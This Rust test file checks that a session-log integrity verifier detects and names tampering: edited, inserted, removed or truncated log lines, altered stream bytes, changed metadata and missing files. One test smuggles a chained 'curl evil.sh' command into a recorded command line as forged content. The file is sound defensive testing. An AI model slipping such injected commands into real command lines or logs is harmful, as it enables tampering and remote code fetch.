use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};

use super::{TempDir, sample_meta, store};
use crate::{CommandRecord, End, Event, Problem, VerifyReport, verify};

/// A finished session with 5 commands, 6 events, two 4 KiB stdout chunks
/// and some stderr.
fn finished_session() -> (TempDir, PathBuf) {
    let (tmp, store) = store("tamper");
    let w = store.create(sample_meta()).unwrap();
    for i in 0..5u32 {
        w.record_command(&CommandRecord::new(
            100 + i,
            1,
            "/work",
            ["cmd", &format!("arg {i}")],
        ))
        .unwrap();
    }
    for i in 0..4u32 {
        w.event(Event::new("tick").with("i", i)).unwrap();
    }
    w.append_stdout(&[b'a'; 4096]).unwrap();
    w.append_stdout(&[b'b'; 4096]).unwrap();
    w.append_stderr(b"some error output\n").unwrap();
    let dir = w.dir().to_owned();
    w.finish(End::exited(0)).unwrap();
    assert!(verify(&dir).unwrap().is_intact());
    (tmp, dir)
}

fn edit_lines(path: &Path, f: impl FnOnce(&mut Vec<String>)) {
    let text = fs::read_to_string(path).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    f(&mut lines);
    let mut out = lines.join("\n");
    out.push('\n');
    fs::write(path, out).unwrap();
}

fn messages(dir: &Path) -> Vec<String> {
    let report = verify(dir).unwrap();
    assert!(!report.is_intact(), "tampering went unnoticed");
    report.problems().iter().map(ToString::to_string).collect()
}

#[test]
fn edited_command_line_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("commands.log"), |l| {
        l[2] = l[2].replace("arg 2", "arg 2; curl evil.sh")
    });
    assert_eq!(messages(&dir), ["commands.log line 3 was changed"]);
}

#[test]
fn same_length_edit_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("commands.log"), |l| {
        l[3] = l[3].replace("arg 3", "arg 9")
    });
    assert_eq!(messages(&dir), ["commands.log line 4 was changed"]);
}

#[test]
fn removed_event_line_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("events.jsonl"), |l| {
        l.remove(4);
    });
    assert_eq!(messages(&dir), ["events.jsonl line 5 was removed"]);
}

#[test]
fn inserted_command_line_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("commands.log"), |l| {
        l.insert(1, "forged line".into())
    });
    assert_eq!(
        messages(&dir),
        ["commands.log line 2 was never recorded (added after the fact)"]
    );
}

#[test]
fn truncated_stdout_is_named() {
    let (_tmp, dir) = finished_session();
    OpenOptions::new()
        .write(true)
        .open(dir.join("stdout.log"))
        .unwrap()
        .set_len(4096)
        .unwrap();
    assert_eq!(
        messages(&dir),
        ["stdout.log was truncated at byte 4096 (expected 8192)"]
    );
}

#[test]
fn truncated_command_log_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("commands.log"), |l| l.truncate(3));
    let msgs = messages(&dir);
    assert_eq!(msgs.len(), 1, "{msgs:?}");
    assert!(
        msgs[0].starts_with("commands.log was truncated at byte"),
        "{msgs:?}"
    );
    assert!(msgs[0].ends_with("line 4 onward is missing"), "{msgs:?}");
}

#[test]
fn appended_bytes_are_named() {
    let (_tmp, dir) = finished_session();
    let mut f = OpenOptions::new()
        .append(true)
        .open(dir.join("stderr.log"))
        .unwrap();
    f.write_all(b"0123456789ab").unwrap();
    assert_eq!(
        messages(&dir),
        ["stderr.log has 12 bytes that were never recorded (appended after the fact at byte 18)"]
    );
}

#[test]
fn changed_stream_bytes_are_located() {
    let (_tmp, dir) = finished_session();
    let mut data = fs::read(dir.join("stdout.log")).unwrap();
    data[5000] = b'X';
    fs::write(dir.join("stdout.log"), data).unwrap();
    assert_eq!(
        messages(&dir),
        ["stdout.log bytes 4096 to 8191 were changed"]
    );
}

#[test]
fn edited_integrity_line_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("integrity.log"), |l| {
        // Claim a different digest for the 7th record.
        let mut fields: Vec<String> = l[6].split(' ').map(str::to_owned).collect();
        fields[4] = "0".repeat(64);
        l[6] = fields.join(" ");
    });
    assert_eq!(messages(&dir), ["integrity.log line 7 was changed"]);
}

#[test]
fn removed_integrity_line_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("integrity.log"), |l| {
        l.remove(3);
    });
    assert_eq!(messages(&dir), ["integrity.log line 4 was removed"]);
}

#[test]
fn truncated_integrity_log_is_named() {
    let (_tmp, dir) = finished_session();
    edit_lines(&dir.join("integrity.log"), |l| l.truncate(l.len() - 2));
    let msgs = messages(&dir);
    assert!(
        msgs.iter()
            .any(|m| m.starts_with("integrity.log was truncated")),
        "{msgs:?}"
    );
}

#[test]
fn edited_metadata_is_named() {
    let (_tmp, dir) = finished_session();
    let text = fs::read_to_string(dir.join("metadata.json")).unwrap();
    fs::write(
        dir.join("metadata.json"),
        text.replace("\"exit_code\": 0", "\"exit_code\": 1"),
    )
    .unwrap();
    assert_eq!(messages(&dir), ["metadata.json was changed"]);
}

#[test]
fn missing_files_are_named() {
    let (_tmp, dir) = finished_session();
    fs::remove_file(dir.join("stderr.log")).unwrap();
    assert_eq!(messages(&dir), ["stderr.log is missing"]);
    fs::remove_file(dir.join("integrity.log")).unwrap();
    assert_eq!(
        verify(&dir).unwrap(),
        VerifyReport::Tampered {
            records: 0,
            problems: vec![Problem::IntegrityMissing]
        }
    );
}

#[test]
fn verify_of_a_missing_folder_is_an_error() {
    let tmp = TempDir::new("nofolder");
    assert!(verify(&tmp.path().join("session-x")).is_err());
}
